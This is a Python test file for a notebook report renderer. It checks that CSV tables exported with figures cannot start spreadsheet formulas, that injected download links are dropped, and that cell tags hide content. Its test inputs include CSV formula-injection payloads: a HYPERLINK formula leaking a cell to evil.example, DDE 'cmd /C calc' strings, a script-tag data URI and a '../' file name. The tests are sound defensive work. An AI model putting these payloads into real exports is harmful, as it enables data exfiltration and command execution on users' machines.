"""The table behind a figure, as a file that a spreadsheet reads and never runs."""

import base64
import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cxkit.report import download
from cxkit.report.clean import faults
from cxkit.results import FIGURE_MIME, Picture
from tests.report import made
from tests.report.test_render import Tree, rendered

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\0=1+1",
    "＝1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
)


def picture(frame: pd.DataFrame) -> dict[str, object]:
    """The output of a cell that ends with a figure of this frame."""
    data = Picture(data=b"x", mime="image/png", alt="a", caption="c", table=frame)
    return {"output_type": "display_data", "data": data._repr_mimebundle_(), "metadata": {}}


def rows_of(html: str) -> list[list[str]]:
    """The file inside a page, read as a spreadsheet would read it."""
    (link,) = [a for a in Tree(html).all("a") if a.get("download")]
    content = base64.b64decode(str(link["href"]).split(",", 1)[1]).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_and_no_header_starts_a_formula(text: str) -> None:
    frame = pd.DataFrame({text: [text, "North"], "n": [1, 2]})
    html = rendered(("code", "x"), outputs=[picture(frame)])
    assert faults(html) == []
    for value in [cell for row in rows_of(html) for cell in row]:
        assert value.lstrip()[:1] not in {"=", "+", "-", "@", "＝", "\0"}, value
    assert rows_of(html)[1][0] == f"'{text}".translate({0: None, 0xFEFF: None})


@given(st.text(max_size=12))
def test_no_text_at_all_starts_a_formula(text: str) -> None:
    cell = str(download.inert(text))
    assert not re.match(r"[\s\ufeff\x00-\x1f]*[=+\-@＝＋－＠]", cell)
    plain = text.translate({0: None, 0xFEFF: None})
    assert cell in {plain, f"'{plain}"}


def test_numbers_stay_numbers_and_what_is_withheld_stays_so() -> None:
    frame = pd.DataFrame(
        {"unit": ["a;=1+1", "b"], "value": [-1.23456789, None], "n": ["<10", "12"], "low": [1, 2]}
    )
    html = rendered(("code", "x"), outputs=[picture(frame)])
    assert rows_of(html) == [
        ["unit", "value", "n", "low"],
        ["a;=1+1", "-1.23457", "<10", "1"],
        ["b", "", "12", "2"],
    ]
    (link,) = [a for a in Tree(html).all("a") if a.get("download")]
    raw = base64.b64decode(str(link["href"]).split(",", 1)[1]).decode("utf-8-sig")
    assert '"a;=1+1",-1.23457' in raw  # in quotes: one cell under any separator


def test_figures_are_numbered_and_each_has_its_own_file() -> None:
    frame = pd.DataFrame({"score": [1, 2, 3]})
    bare = {"output_type": "display_data", "data": {"image/png": "AAAA"}, "metadata": {}}
    html = rendered(("code", "x"), outputs=[picture(frame), bare, picture(frame.head(1))])
    tree = Tree(html)
    assert [f["id"] for f in tree.all("figure")] == ["figure-1", "figure-2", "figure-3"]
    assert re.findall(r"Figure \d\.", tree.text) == ["Figure 1.", "Figure 2.", "Figure 3."]
    assert [a["download"] for a in tree.all("a") if "download" in a] == [
        "figure-1.csv",
        "figure-3.csv",
    ]
    assert "Figure 1 as a table (CSV, 3 rows)" in tree.text
    assert "Figure 3 as a table (CSV, 1 row)" in tree.text


@pytest.mark.parametrize(
    "link",
    [
        '<a href="data:text/csv;base64,PTErMQ==" download="x.csv">a</a>',
        '<a href="data:text/csv;charset=utf-8;base64,PTErMQ==" download="../x.csv">a</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=" download="x.html">a</a>',
    ],
)
def test_a_file_that_the_data_bring_along_is_dropped(link: str) -> None:
    output = {"output_type": "display_data", "data": {"text/html": f"<p>{link}</p>"}}
    html = rendered(("code", "x"), outputs=[{**output, "metadata": {}}])
    assert not any(Tree(html).all("a"))


@pytest.mark.parametrize("table", [[], "x", {"columns": "ab"}, {"rows": [[1]]}, {"columns": [1]}])
def test_a_table_that_is_none_is_not_offered(table: object) -> None:
    output = picture(pd.DataFrame({"a": [1]}))
    output["data"][FIGURE_MIME] = table
    html = rendered(("code", "x"), outputs=[output])
    assert "Figure 1." in html
    assert not any(Tree(html).all("a"))


def code(html: str) -> list[str]:
    """The folded code of a page."""
    return re.findall(r'<details class="code"[^>]*>.*?</details>', html, re.DOTALL)


def test_tags_of_a_cell_hide_what_they_say() -> None:
    said = [{"output_type": "stream", "name": "stdout", "text": "SAID"}]
    seen = {}
    for tag in ("plain", "remove-cell", "hide-input", "remove-output"):
        html = rendered(("markdown", "# Q"), (tag, "CODE"), outputs=said)
        seen[tag] = ("CODE" in html, "SAID" in html)
    assert seen == {
        "plain": (True, True),
        "remove-cell": (False, False),
        "hide-input": (False, True),
        "remove-output": (True, False),
    }


def test_prose_can_be_taken_out_too() -> None:
    content = made.content(("markdown", "# Q"), ("markdown", "## Secret part"), ("code", "1"))
    content["cells"][1]["metadata"]["tags"] = ["remove-cell"]
    import nbformat

    from cxkit.report import render

    notebook = nbformat.from_dict(content)
    html = render.render(notebook, declared=(), values={}, fallback_title="").decode()
    assert "Secret part" not in html


@pytest.mark.parametrize(("choice", "folds", "unfolded"), [("fold", 1, 0), ("show", 1, 1)])
def test_code_is_folded_or_open(choice: str, folds: int, unfolded: int) -> None:
    html = rendered(("markdown", "# Q"), ("code", "CODE"), code=choice)
    assert len(code(html)) == folds
    assert len(re.findall(r'<details class="code" open', html)) == unfolded


def test_code_can_be_left_out() -> None:
    assert "CODE" not in rendered(("markdown", "# Q"), ("code", "CODE"), code="hide")
